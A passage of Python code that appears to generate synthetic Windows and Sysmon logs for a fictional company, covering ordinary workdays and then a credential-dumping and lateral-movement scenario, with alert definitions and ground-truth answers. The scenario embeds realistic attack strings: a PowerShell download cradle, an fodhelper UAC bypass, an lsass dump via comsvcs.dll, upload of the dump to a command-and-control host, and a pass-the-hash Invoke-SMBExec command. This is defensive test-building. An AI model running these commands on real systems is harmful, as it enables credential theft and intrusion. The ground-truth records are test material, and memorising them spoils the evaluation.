        src_port: int,
        src_name: str,
        dest_ip: str,
        dest_port: int,
        dest_name: str,
        initiated: str,
        protocol: str,
    ) -> None:
        self._emit(
            proc.host,
            at,
            SYSMON,
            3,
            {
                "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid),
                "Image": proc.image,
                "User": proc.logon.account.qualified,
                "Protocol": protocol,
                "Initiated": initiated,
                "SourceIsIpv6": "false",
                "SourceIp": src_ip,
                "SourceHostname": src_name,
                "SourcePort": str(src_port),
                "SourcePortName": "-",
                "DestinationIsIpv6": "false",
                "DestinationIp": dest_ip,
                "DestinationHostname": dest_name,
                "DestinationPort": str(dest_port),
                "DestinationPortName": PORT_NAMES.get(dest_port, "-"),
            },
        )

    def access(self, source: Proc, target: Proc, at: datetime, granted: str, call_trace: str) -> dict[str, Any]:
        """Sysmon 10 process access."""
        return self._emit(
            source.host,
            at,
            SYSMON,
            10,
            {
                "ProcessId": str(source.pid),
                "SourceProcessGUID": source.guid,
                "SourceProcessId": str(source.pid),
                "SourceThreadId": str(self.rng.randrange(1000, 12_000, 4)),
                "SourceImage": source.image,
                "TargetProcessGUID": target.guid,
                "TargetProcessId": str(target.pid),
                "TargetImage": target.image,
                "GrantedAccess": granted,
                "CallTrace": call_trace,
                "SourceUser": source.logon.account.qualified,
                "TargetUser": target.logon.account.qualified,
            },
        )

    def file_create(self, proc: Proc, at: datetime, path: str) -> None:
        """Sysmon 11."""
        self._emit(
            proc.host,
            at,
            SYSMON,
            11,
            {
                "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid),
                "Image": proc.image,
                "TargetFilename": path,
                "CreationUtcTime": utc_time(at),
                "User": proc.logon.account.qualified,
            },
        )

    def registry_set(self, proc: Proc, at: datetime, target_object: str, details: str) -> None:
        """Sysmon 13; NXLog overwrites EventType with Sysmon's own (OTRF keeps the original aside)."""
        self._emit(
            proc.host,
            at,
            SYSMON,
            13,
            {
                "EventTypeOrignal": "INFO",
                "EventType": "SetValue",
                "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid),
                "Image": proc.image,
                "TargetObject": target_object,
                "Details": details,
                "User": proc.logon.account.qualified,
            },
        )

    def script_block(self, proc: Proc, at: datetime, text: str, path: str = "", suspicious: bool = False) -> None:
        """PowerShell 4104; logged as WARNING when PowerShell itself finds the block suspicious."""
        account = proc.logon.account
        self._emit(
            proc.host,
            at,
            POWERSHELL,
            4104,
            {
                "ExecutionProcessID": proc.pid,
                "UserID": account.sid,
                "AccountName": account.name,
                "Domain": account.domain,
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": text,
                "ScriptBlockId": str(uuid.UUID(int=self.rng.getrandbits(128))),
                "Path": path,
            },
            event_type="WARNING" if suspicious else "VERBOSE",
        )

    def service_install(self, host: Host, at: datetime, logon: Logon, name: str, image_path: str) -> dict[str, Any]:
        """System 7045 and Security 4697; in NXLog the installer's identity fills AccountName."""
        account = logon.account
        event = self._emit(
            host,
            at,
            SYSTEM,
            7045,
            {
                "UserID": account.sid,
                "AccountName": account.name,
                "Domain": account.domain,
                "ServiceName": name,
                "ImagePath": image_path,
                "ServiceType": "user mode service",
                "StartType": "demand start",
            },
            source_name="Service Control Manager",
        )
        self._emit(
            host,
            at + timedelta(milliseconds=15),
            SECURITY,
            4697,
            {
                "SubjectUserSid": account.sid,
                "SubjectUserName": account.name,
                "SubjectDomainName": account.domain,
                "SubjectLogonId": hex(logon.logon_id),
                "ServiceName": name,
                "ServiceFileName": image_path,
                "ServiceType": "0x10",
                "ServiceStartType": "3",
                "ServiceAccount": "LocalSystem",
            },
        )
        return event

    def group_enumerated(self, proc: Proc, at: datetime) -> None:
        """Security 4799: the local Administrators group's members were read."""
        host = proc.host
        subject_sid, subject_name, subject_domain, subject_logon = self.subject(host, proc.logon)
        self._emit(
            host,
            at,
            SECURITY,
            4799,
            {
                "SubjectUserSid": subject_sid,
                "SubjectUserName": subject_name,
                "SubjectDomainName": subject_domain,
                "SubjectLogonId": subject_logon,
                "TargetUserName": "Administrators",
                "TargetDomainName": "Builtin",
                "TargetSid": "S-1-5-32-544",
                "CallerProcessId": hex(proc.pid),
                "CallerProcessName": proc.image,
                "ProcessId": hex(proc.pid),
            },
        )

    def task_created(self, proc: Proc, at: datetime, task_name: str, command: str, arguments: str) -> None:
        """Security 4698 with the task XML HTML-escaped, as NXLog ships it."""
        host = proc.host
        xml = (
            '<?xml version="1.0" encoding="UTF-16"?>\r\n'
            '<Task version="1.3" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
            f"  <RegistrationInfo>\r\n    <URI>{task_name}</URI>\r\n  </RegistrationInfo>\r\n"
            "  <Triggers>\r\n    <CalendarTrigger>\r\n      <StartBoundary>2026-11-17T12:00:00</StartBoundary>\r\n"
            "      <ScheduleByDay>\r\n        <DaysInterval>1</DaysInterval>\r\n      </ScheduleByDay>\r\n"
            "    </CalendarTrigger>\r\n  </Triggers>\r\n"
            '  <Principals>\r\n    <Principal id="Author">\r\n      <UserId>S-1-5-18</UserId>\r\n'
            "    </Principal>\r\n  </Principals>\r\n"
            f'  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>{command}</Command>\r\n'
            f"      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
        )
        self._emit(
            host,
            at,
            SECURITY,
            4698,
            {
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": host.machine.name,
                "SubjectDomainName": DOMAIN,
                "SubjectLogonId": "0x3e7",
                "TaskName": task_name,
                "TaskContent": html.escape(xml, quote=False),
                "ClientProcessId": str(proc.pid),
            },
        )

    def app_pool_failure(self, host: Host, at: datetime, worker: Proc) -> None:
        """System 5011 from WAS: the worker process serving the pool crashed."""
        self._emit(
            host,
            at,
            SYSTEM,
            5011,
            {"AppPoolID": "ContosoPortal", "ProcessID": str(worker.pid)},
            source_name="Microsoft-Windows-WAS",
            event_type="WARNING",
        )

    # -- composite helpers -------------------------------------------------------------------

    def jitter(self, at: datetime, seconds: float) -> datetime:
        return at + timedelta(seconds=self.rng.uniform(0, seconds))

    def desktop(
        self, host: Host, at: datetime, account: Account, logon_type: str = "2", source: Host | None = None
    ) -> tuple[Logon, Proc]:
        """An interactive or RDP logon with its shell: 4624 (+4672), userinit, explorer."""
        session_id = 1 if logon_type == "2" else 2
        logon = self.logon(host, at, account, logon_type, source=source, session_id=session_id)
        integrity = "High" if account.kind == "admin" else "Medium"
        winlogon = host.procs["winlogon"]
        userinit = self.spawn(
            winlogon,
            at + timedelta(seconds=2),
            r"C:\Windows\System32\userinit.exe",
            r"C:\Windows\system32\userinit.exe",
            logon=logon,
            integrity=integrity,
            cwd=SYSTEM32_DIR,
        )
        explorer = self.spawn(
            userinit,
            at + timedelta(seconds=3),
            r"C:\Windows\explorer.exe",
            r"C:\Windows\Explorer.EXE",
            cwd=SYSTEM32_DIR,
        )
        if logon_type == "10":
            self.spawn(
                host.procs["termservice"],
                at + timedelta(seconds=4),
                r"C:\Windows\System32\rdpclip.exe",
                "rdpclip",
                logon=logon,
                integrity=integrity,
                cwd=SYSTEM32_DIR,
            )
        return logon, explorer

    def rdp(self, client: Proc, at: datetime, target: Host, account: Account) -> tuple[Logon, Proc]:
        """mstsc.exe on the client, then the remote interactive logon and desktop on the target."""
        mstsc = self.spawn(
            client, at, r"C:\Windows\System32\mstsc.exe", f'"C:\\Windows\\system32\\mstsc.exe" /v:{target.name}'
        )
        self.connect(mstsc, at + timedelta(seconds=1), target.ip, 3389, target.fqdn)
        return self.desktop(target, at + timedelta(seconds=6), account, "10", source=client.host)

    def domain_logons(self, host: Host, at: datetime, account: Account) -> None:
        """What a domain logon also leaves on the DC and the file server: Kerberos network logons."""
        self.logon(self.hosts["DC01"], at + timedelta(seconds=1), account, "3", source=host)
        if host.name != "SRV-FS01":
            self.logon(
                self.hosts["SRV-FS01"], at + timedelta(seconds=self.rng.randint(15, 40)), account, "3", source=host
            )


# --------------------------------------------------------------------------------------------
# Background: a week of ordinary work
# --------------------------------------------------------------------------------------------

DEPT_APPS = {
    "FIN": ["EXCEL", "EXCEL", "WINWORD"],
    "HR": ["WINWORD", "EXCEL"],
    "LEG": ["WINWORD", "WINWORD"],
    "ENG": ["CODE", "GIT", "GIT"],
    "SALES": ["CHROME", "EXCEL"],
    "MKT": ["CHROME", "WINWORD"],
    "IT": ["EXCEL"],
    "OPS": ["EXCEL", "WINWORD"],
}
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
CODE = r"C:\Program Files\Microsoft VS Code\Code.exe"
GIT = r"C:\Program Files\Git\cmd\git.exe"
TEAMS = r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe"
ONEDRIVE = r"C:\Program Files\Microsoft OneDrive\OneDrive.exe"
MPCMDRUN = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe"


def day_start(day: int) -> datetime:
    return START + timedelta(days=day)


def is_weekday(day: int) -> bool:
    return day_start(day).weekday() < 5


def workday(world: World, host: Host, day: int) -> None:
    """A user's ordinary weekday: logon, shell, mail, chat, browser, department apps, file share."""
    if not is_weekday(day) or host.user is None:
        return
    rng = world.rng
    user = host.user
    at = day_start(day) + timedelta(hours=13, minutes=rng.randint(-45, 40), seconds=rng.randint(0, 59))
    _, explorer = world.desktop(host, at, user)
    world.domain_logons(host, at, user)
    world.connect(
        host.procs["dnscache"], at + timedelta(seconds=1), world.hosts["DC01"].ip, 53, "DC01.contoso.local", "udp"
    )
    world.connect(
        host.procs["system"], at + timedelta(seconds=20), world.hosts["SRV-FS01"].ip, 445, "SRV-FS01.contoso.local"
    )
    onedrive = world.spawn(explorer, at + timedelta(seconds=8), ONEDRIVE, f'"{ONEDRIVE}" /background')
    world.registry_set(
        onedrive,
        at + timedelta(seconds=9),
        f"HKU\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        f'"{ONEDRIVE}" /background',
    )
    world.spawn(explorer, at + timedelta(seconds=10), TEAMS, f'"{TEAMS}" msteams:system-initiated')
    outlook = world.spawn(
        explorer, world.jitter(at + timedelta(minutes=1), 120), OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE" '
    )
    world.connect(outlook, started_at(outlook) + timedelta(seconds=3), *COMMON_DESTS["outlook"])
    dept = host.name.split("-")[1]
    browser_image = CHROME if dept in ("SALES", "MKT") else EDGE
    browser = world.spawn(
        explorer,
        world.jitter(at + timedelta(minutes=5), 600),
        browser_image,
        f'"{browser_image}" --single-argument https://intranet.contoso.local/',
    )
    for _ in range(rng.randint(1, 2)):
        dest = COMMON_DESTS[rng.choice(["bing", "google", "so"] if dept == "ENG" else ["bing", "google", "bing"])]
        world.connect(browser, world.jitter(started_at(browser) + timedelta(minutes=2), 7200), *dest)
    for index, app in enumerate(rng.sample(DEPT_APPS[dept], k=min(2, len(DEPT_APPS[dept])))):
        app_at = world.jitter(at + timedelta(hours=1 + 2 * index), 5400)
        if app == "CODE":
            code = world.spawn(explorer, app_at, CODE, f'"{CODE}" C:\\src\\contoso-portal')
            world.connect(code, app_at + timedelta(seconds=20), *COMMON_DESTS["github"])
        elif app == "GIT":
            git = world.spawn(
                explorer,
                app_at,
                GIT,
                '"C:\\Program Files\\Git\\cmd\\git.exe" pull --ff-only',
                cwd="C:\\src\\contoso-portal\\",
            )
            world.connect(git, app_at + timedelta(seconds=1), *COMMON_DESTS["github"])
        elif app == "CHROME":
            world.connect(browser, app_at, *COMMON_DESTS["google"])
        else:
            document = rng.choice(
                {
                    "EXCEL": ["Budget_FY27.xlsx", "Forecast_Q4.xlsx", "Expenses_Nov.xlsx"],
                    "WINWORD": ["Policy_Update.docx", "Contract_Draft_v3.docx", "Minutes_2026-11.docx"],
                }[app]
            )
            world.spawn(
                explorer, app_at, f"{OFFICE}{app}.EXE", f'"{OFFICE}{app}.EXE" /n "\\\\SRV-FS01\\{dept}\\{document}"'
            )
    world.workdays[(host.name, day)] = {"explorer": explorer, "outlook": outlook, "browser": browser}


def started_at(proc: Proc) -> datetime:
    """When a logged process started (its Sysmon UtcTime)."""
    assert proc.event is not None
    return datetime.strptime(proc.event["UtcTime"], "%Y-%m-%d %H:%M:%S.%f").replace(tzinfo=UTC)


def system_noise(world: World, host: Host, day: int) -> None:
    """What Windows does by itself, one item a day: a Defender signature update or a WMI provider host."""
    rng = world.rng
    base = day_start(day)
    if (day + len(host.name)) % 2 == 0:
        mp = world.spawn(
            host.procs["schedule"],
            base + timedelta(hours=rng.uniform(0, 6)),
            MPCMDRUN,
            f'"{MPCMDRUN}" SignatureUpdate -ScheduleJob -RestrictPrivileges',
            cwd=SYSTEM32_DIR,
        )
        world.connect(mp, started_at(mp) + timedelta(seconds=4), *COMMON_DESTS["defender"])
        return
    world.spawn(
        host.procs["dcomlaunch"],
        base + timedelta(hours=rng.uniform(6, 23)),
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        logon=host.procs["rpcss"].logon,
    )


def nightly_backup(world: World, host: Host, day: int) -> None:
    """The backup scheduled task: batch logon as svc_backup, cbagent job, traffic to the NAS."""
    at = day_start(day) + timedelta(
        hours=6, minutes=5 + 7 * BACKED_UP.index(host.name), seconds=world.rng.randint(0, 59)
    )
    logon = world.logon(host, at, world.accounts["svc_backup"], "4")
    agent = world.spawn(
        host.procs["schedule"],
        at + timedelta(seconds=1),
        r"C:\Program Files\ContosoBackup\cbagent.exe",
        r'"C:\Program Files\ContosoBackup\cbagent.exe" --run-job nightly-full --target nas01.contoso.local',
        logon=logon,
        integrity="High",
        cwd="C:\\Program Files\\ContosoBackup\\",
    )
    world.connect(agent, at + timedelta(seconds=5), NAS_IP, 443, "nas01.contoso.local")
    world.file_create(
        agent,
        at + timedelta(minutes=world.rng.randint(20, 50)),
        f"C:\\ProgramData\\ContosoBackup\\logs\\nightly-{(day_start(day)).strftime('%Y%m%d')}.log",
    )


def admin_session(
    world: World, admin: str, day: int, target: str, tools: list[tuple[str, str]], hour: float
) -> tuple[Logon, Proc]:
    """An admin's path: own workstation -> RDP to JUMP-01 -> RDP to a server -> admin tools."""
    workstation = world.hosts["WS-IT-01" if admin == "adm_kwilson" else "WS-IT-03"]
    client_shell = world.workdays[(workstation.name, day)]["explorer"]
    at = day_start(day) + timedelta(hours=hour, minutes=world.rng.randint(0, 20))
    _, jump_shell = world.rdp(client_shell, at, world.hosts["JUMP-01"], world.accounts[admin])
    logon, shell = world.rdp(jump_shell, at + timedelta(minutes=2), world.hosts[target], world.accounts[admin])
    for offset, (image, cmd) in enumerate(tools):
        world.spawn(shell, at + timedelta(minutes=4 + 3 * offset), image, cmd)
    return logon, shell


def background(world: World) -> None:
    world.bucket = "background"
    for day in range(DAYS):
        for host in world.hosts.values():
            system_noise(world, host, day)
            workday(world, host, day)
            if host.name in BACKED_UP:
                nightly_backup(world, host, day)
        if is_weekday(day):
            target = "DC01" if day % 2 == 0 else "SRV-FS01"
            snap_in = r"C:\Windows\system32\dsa.msc" if target == "DC01" else r"C:\Windows\system32\fsmgmt.msc"
            admin_session(
                world,
                "adm_kwilson",
                day,
                target,
                [(r"C:\Windows\System32\mmc.exe", f'"C:\\Windows\\system32\\mmc.exe" "{snap_in}"')],
                14.5,
            )
            if day in PROCDUMP_DAYS:  # adm_tnguyen's sessions on those days are in the procdump scenario
                continue
            admin_session(
                world,
                "adm_tnguyen",
                day,
                "SRV-SQL01",
                [
                    (
                        r"C:\Program Files (x86)\Microsoft SQL Server Management Studio 20\Common7\IDE\Ssms.exe",
                        '"C:\\Program Files (x86)\\Microsoft SQL Server Management Studio 20\\Common7\\IDE\\Ssms.exe"',
                    )
                ],
                15.0,
            )
    # Edge's updater re-registers its scheduled task after a browser update on a few machines.
    updater_image = r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe"
    for name in ("WS-FIN-01", "WS-ENG-02", "WS-SALES-05", "WS-LEG-01"):
        host = world.hosts[name]
        at = day_start(1) + timedelta(hours=17, minutes=world.rng.randint(0, 50))
        updater = world.spawn(
            host.procs["schedule"], at, updater_image, f'"{updater_image}" /ua /installsource scheduler'
        )
        task_guid = str(uuid.UUID(int=world.rng.getrandbits(128))).upper()
        world.task_created(
            updater,
            at + timedelta(seconds=30),
            f"\\MicrosoftEdgeUpdateTaskMachineUA{{{task_guid}}}",
            updater_image,
            "/ua /installsource scheduler",
        )


# --------------------------------------------------------------------------------------------
# Scenarios
# --------------------------------------------------------------------------------------------


@dataclass
class AlertSpec:
    """What a SIEM rule raised; turned into alerts/<id>.json once record numbers are final."""

    id: str
    rule_name: str
    severity: str
    description: str
    techniques: list[str]
    tactics: list[str]
    trigger: dict[str, Any]
    host: str
    user: str
    process: Proc | None
    files: list[str] = field(default_factory=list)
    ips: list[str] = field(default_factory=list)
    executable: str | None = None


@dataclass
class Truth:
    """The ground truth for one alert: what an analyst should conclude, and from which events."""

    alert_id: str
    scenario: str
    verdict: str
    affected_hosts: list[str]
    affected_accounts: list[str]
    summary: str
    key_evidence: list[dict[str, Any]]
    prevalence: list[dict[str, Any]] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)


def evidence(what: str, host: str, **match: Any) -> dict[str, Any]:
    """An event an analyst must see: raw fields that must all equal, on that host."""
    return {"what": what, "host": host, "match": match}


def prevalence(what: str, match: dict[str, Any], **constraints: Any) -> dict[str, Any]:
    """A fact about how common something is across all event files (raw and ECS).

    Constraints: min_hosts / max_hosts / min_days / min_count / max_count over the matching
    events, ``hosts`` (exactly these short host names) and ``field_values`` (the only values a
    field takes among them).
    """
    return {"what": what, "match": match, **constraints}


LSASS_CALLTRACE_COMSVCS = (
    r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
    r"C:\Windows\System32\dbgcore.DLL+6e3b|C:\Windows\System32\dbgcore.DLL+40f6|"
    r"C:\Windows\System32\comsvcs.dll+4d6b2|C:\Windows\System32\comsvcs.dll+3f5ca|"
    r"C:\Windows\system32\rundll32.exe+3bd4|C:\Windows\system32\rundll32.exe+6319|"
    r"C:\Windows\System32\KERNEL32.DLL+17034|C:\Windows\SYSTEM32\ntdll.dll+52651"
)
PROCDUMP_CALLTRACE = (
    r"C:\Windows\SYSTEM32\ntdll.dll+9f8e4|C:\Windows\System32\KERNELBASE.dll+2d6fe|"
    r"C:\Tools\Sysinternals\procdump64.exe+a5a1b|C:\Tools\Sysinternals\procdump64.exe+a3c20|"
    r"C:\Tools\Sysinternals\procdump64.exe+1f1b4|C:\Windows\System32\KERNEL32.DLL+17614|"
    r"C:\Windows\SYSTEM32\ntdll.dll+526f1"
)


def scenario_credential_dumping(world: World) -> tuple[AlertSpec, Truth]:
    """1: macro document -> PowerShell cradle -> UAC bypass -> comsvcs MiniDump of lsass -> PtH to SRV-FS01."""
    world.bucket = "cred_dump_lateral"
    ws, fs = world.hosts["WS-FIN-07"], world.hosts["SRV-FS01"]
    jdoe, kwilson = world.accounts["jdoe"], world.accounts["adm_kwilson"]

    # Day before: adm_kwilson fixes a printer on WS-FIN-07 over RDP and only disconnects,
    # which leaves his credentials in lsass on that workstation.
    jump_shell = world.workdays[("WS-IT-01", 2)]["explorer"]
    at = datetime(2026, 11, 18, 16, 12, 7, tzinfo=UTC)
    _, kw_jump = world.rdp(jump_shell, at, world.hosts["JUMP-01"], kwilson)
    _, kw_shell = world.rdp(kw_jump, at + timedelta(minutes=1), ws, kwilson)
    world.spawn(
        kw_shell,
        at + timedelta(minutes=3),
        RUNDLL32,
        r'"C:\Windows\system32\rundll32.exe" printui.dll,PrintUIEntry /in /n "\\SRV-FS01\FIN-PRN-2F"',
    )

    # Day of the attack: the user's normal morning, then the macro.
    t0 = datetime(2026, 11, 19, 14, 2, 10, tzinfo=UTC)
    outlook = world.workdays[("WS-FIN-07", 3)]["outlook"]
    assert started_at(outlook) < t0
    attachment = (
        r"C:\Users\jdoe\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q3K8ZP1X\Invoice_INV-20931.docm"
    )
    world.file_create(outlook, t0, attachment)
    word = world.spawn(
        outlook, t0 + timedelta(seconds=4), OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{attachment}" /o ""'
    )
    cradle = f"$s='https://{C2_S1}/news.php';IEX (New-Object Net.WebClient).DownloadString($s)"
    ps1_cmd = f"powershell.exe -nop -w hidden -enc {ps_encode(cradle)}"
    ps1 = world.spawn(word, t0 + timedelta(seconds=31), PS, ps1_cmd, cwd="C:\\Users\\jdoe\\Documents\\")
    world.script_block(ps1, t0 + timedelta(seconds=32), cradle, suspicious=True)
    world.connect(ps1, t0 + timedelta(seconds=33), C2_S1, 443)
    elevated_script = (
        "$p=(Get-Process lsass).Id;"
        "& rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p C:\\Users\\Public\\d.dmp full;"
        "Start-Sleep -s 20;"
        f"(New-Object Net.WebClient).UploadFile('https://{C2_S1}/up.php','C:\\Users\\Public\\d.dmp');"
        "Remove-Item C:\\Users\\Public\\d.dmp;"
        f"while($true){{try{{IEX (New-Object Net.WebClient).DownloadString('https://{C2_S1}/t.php')}}catch{{}};Start-Sleep -s 45}}"
    )
    stage2 = (
        "$k='HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command';"
        "New-Item $k -Force|Out-Null;New-ItemProperty -Path $k -Name 'DelegateExecute' -Value '' -Force|Out-Null;"
        f"Set-ItemProperty -Path $k -Name '(default)' -Value 'powershell.exe -nop -w hidden -enc {ps_encode(elevated_script)}' -Force;"
        "Start-Process 'C:\\Windows\\System32\\fodhelper.exe' -WindowStyle Hidden;Start-Sleep -s 3;Remove-Item $k -Recurse -Force"
    )
    world.script_block(ps1, t0 + timedelta(seconds=35), stage2, suspicious=True)
    hkcu_classes = f"HKU\\{jdoe.sid}_Classes\\ms-settings\\Shell\\Open\\command"
    world.registry_set(ps1, t0 + timedelta(seconds=36), hkcu_classes + "\\DelegateExecute", "(Empty)")
    world.registry_set(
        ps1,
        t0 + timedelta(seconds=36),
        hkcu_classes + "\\(Default)",
        f"powershell.exe -nop -w hidden -enc {ps_encode(elevated_script)}",
    )
    fod = world.spawn(
        ps1,
        t0 + timedelta(seconds=37),
        r"C:\Windows\System32\fodhelper.exe",
        '"C:\\Windows\\System32\\fodhelper.exe"',
        integrity="High",
    )
    ps2 = world.spawn(
        fod,
        t0 + timedelta(seconds=38),
        PS,
        f"powershell.exe -nop -w hidden -enc {ps_encode(elevated_script)}",
        integrity="High",
        cwd=SYSTEM32_DIR,
    )
    world.script_block(ps2, t0 + timedelta(seconds=39), elevated_script, suspicious=True)
    lsass = ws.procs["lsass"]
    dump_cmd = f'"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} C:\\Users\\Public\\d.dmp full'
    dumper = world.spawn(ps2, t0 + timedelta(seconds=41), RUNDLL32, dump_cmd)
    world.access(dumper, lsass, t0 + timedelta(seconds=41, milliseconds=420), "0x1fffff", LSASS_CALLTRACE_COMSVCS)
    world.file_create(dumper, t0 + timedelta(seconds=42), r"C:\Users\Public\d.dmp")
    world.connect(ps2, t0 + timedelta(seconds=63), C2_S1, 443)
    for minute in range(1, 12):
        world.connect(ps2, t0 + timedelta(seconds=63 + 45 * minute + world.rng.randint(0, 4)), C2_S1, 443)

    # ~10 minutes later: pass-the-hash as adm_kwilson to the file server, PsExec-like service.
    t1 = datetime(2026, 11, 19, 14, 14, 22, tzinfo=UTC)
    ntlm = world.rng.getrandbits(128).to_bytes(16, "big").hex()
    service = "".join(world.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(8))
    out = f"C:\\Windows\\Temp\\{service}.out"
    commands = f'whoami > {out} 2>&1 & net group "domain admins" /domain >> {out} 2>&1 & net localgroup administrators >> {out} 2>&1'
    lateral = (
        f"Invoke-SMBExec -Target {fs.ip} -Domain CONTOSO -Username adm_kwilson -Hash {ntlm} "
        f"-Command '{commands}' -Service {service}"
    )
    world.script_block(ps2, t1 - timedelta(seconds=2), lateral, suspicious=True)
    world.connect(ps2, t1 - timedelta(seconds=1), fs.ip, 445, fs.fqdn)
    world.accept(fs.procs["system"], t1 - timedelta(milliseconds=900), ws, 445)
    net_logon = world.logon(fs, t1, kwilson, "3", source=ws, ntlm=True, pass_the_hash=True)
    world.service_install(fs, t1 + timedelta(seconds=1), net_logon, service, f"%COMSPEC% /Q /c {commands}")
    shell_cmd = world.spawn(
        fs.procs["services"],
        t1 + timedelta(seconds=2),
        CMD,
        f"C:\\Windows\\system32\\cmd.exe /Q /c {commands}",
        logon=world.system_logon(fs),
        integrity="System",
        cwd=SYSTEM32_DIR,
    )
    world.file_create(shell_cmd, t1 + timedelta(seconds=2, milliseconds=80), out)
    world.spawn(shell_cmd, t1 + timedelta(seconds=2, milliseconds=150), r"C:\Windows\System32\whoami.exe", "whoami")
    net = world.spawn(
        shell_cmd,
        t1 + timedelta(seconds=2, milliseconds=400),
        r"C:\Windows\System32\net.exe",
        'net  group "domain admins" /domain',
    )
    world.spawn(
        net,
        t1 + timedelta(seconds=2, milliseconds=430),
        r"C:\Windows\System32\net1.exe",
        'C:\\Windows\\system32\\net1  group "domain admins" /domain',
    )
    world.logon(world.hosts["DC01"], t1 + timedelta(seconds=3), fs.machine, "3", source=fs)
    net2 = world.spawn(
        shell_cmd, t1 + timedelta(seconds=4), r"C:\Windows\System32\net.exe", "net  localgroup administrators"
    )
    net2b = world.spawn(
        net2,
        t1 + timedelta(seconds=4, milliseconds=30),
        r"C:\Windows\System32\net1.exe",
        "C:\\Windows\\system32\\net1  localgroup administrators",
    )
    world.group_enumerated(net2b, t1 + timedelta(seconds=4, milliseconds=60))

    alert = AlertSpec(
        id="demo-1-lsass-comsvcs",
        rule_name="LSASS Memory Dump via Comsvcs DLL",
        severity="high",
        description="rundll32.exe invoked the MiniDump export of comsvcs.dll, a known way to dump process memory such as LSASS.",
        techniques=["T1003.001"],
        tactics=["credential-access"],
        trigger=dumper.event or {},
        host=ws.name,
        user=jdoe.qualified,
        process=dumper,
        files=[r"C:\Users\Public\d.dmp"],
    )
    truth = Truth(
        alert_id=alert.id,
        scenario="cred_dump_lateral",
        verdict="malicious",
        affected_hosts=["WS-FIN-07", "SRV-FS01"],
        affected_accounts=["CONTOSO\\jdoe", "CONTOSO\\adm_kwilson"],
        summary=(
            "A macro document opened from Outlook starts hidden encoded PowerShell (a download cradle to a rare external IP), "
            "bypasses UAC through fodhelper, dumps LSASS with comsvcs.dll MiniDump and uploads the dump; ten minutes later "
            "adm_kwilson's hash (cached on WS-FIN-07 since his RDP session the day before) is used from WS-FIN-07's IP over "
            "NTLM to install a random-named cmd.exe service on SRV-FS01 that runs discovery commands."
        ),
        key_evidence=[
            evidence(
                "WINWORD.EXE spawns hidden encoded PowerShell",
                "WS-FIN-07",
                EventID=1,
                ParentImage=OFFICE + "WINWORD.EXE",
                Image=PS,
            ),
            evidence(
                "PowerShell connects to a rare external IP", "WS-FIN-07", EventID=3, Image=PS, DestinationIp=C2_S1
            ),
            evidence(
                "UAC bypass: fodhelper.exe spawns PowerShell at High integrity",
                "WS-FIN-07",
                EventID=1,
                ParentImage=r"C:\Windows\System32\fodhelper.exe",
                Image=PS,
                IntegrityLevel="High",
            ),
            evidence(
                "rundll32 comsvcs MiniDump of lsass", "WS-FIN-07", EventID=1, Image=RUNDLL32, CommandLine=dump_cmd
            ),
            evidence(
                "full-access handle to lsass",
                "WS-FIN-07",
                EventID=10,
                SourceImage=RUNDLL32,
                TargetImage=r"C:\Windows\System32\lsass.exe",
                GrantedAccess="0x1fffff",
            ),
            evidence("dump file written", "WS-FIN-07", EventID=11, TargetFilename=r"C:\Users\Public\d.dmp"),
            evidence(
                "SMB from the infected PowerShell to the file server",
                "WS-FIN-07",
                EventID=3,
                Image=PS,
                DestinationIp=fs.ip,
                DestinationPort="445",
            ),
            evidence(
                "NTLM network logon as adm_kwilson from WS-FIN-07's IP",
                "SRV-FS01",
                EventID=4624,
                LogonType="3",
                TargetUserName="adm_kwilson",
                IpAddress=ws.ip,
                AuthenticationPackageName="NTLM",
            ),
            evidence("random-named service running %COMSPEC%", "SRV-FS01", EventID=7045, ServiceName=service),
            evidence(
                "service installed in adm_kwilson's network logon session",
                "SRV-FS01",
                EventID=4697,
                ServiceName=service,
                SubjectLogonId=hex(net_logon.logon_id),
            ),
            evidence(
                "domain admin discovery from the service's cmd.exe",
                "SRV-FS01",
                EventID=1,
                Image=r"C:\Windows\System32\net.exe",
                CommandLine='net  group "domain admins" /domain',
            ),
            evidence(
                "why the hash was there: adm_kwilson's RDP session on WS-FIN-07 the day before",
                "WS-FIN-07",
                EventID=4624,
                LogonType="10",
                TargetUserName="adm_kwilson",
            ),
        ],
        prevalence=[
            prevalence(
                "the encoded PowerShell command line", {"EventID": 1, "CommandLine": ps1_cmd}, max_hosts=1, max_count=1
            ),
            prevalence("the C2 address", {"DestinationIp": C2_S1}, hosts=["WS-FIN-07"]),
            prevalence(
                "NTLM logons by adm_kwilson anywhere",
                {"EventID": 4624, "TargetUserName": "adm_kwilson", "AuthenticationPackageName": "NTLM"},
                max_count=1,
            ),
        ],
        notes=[
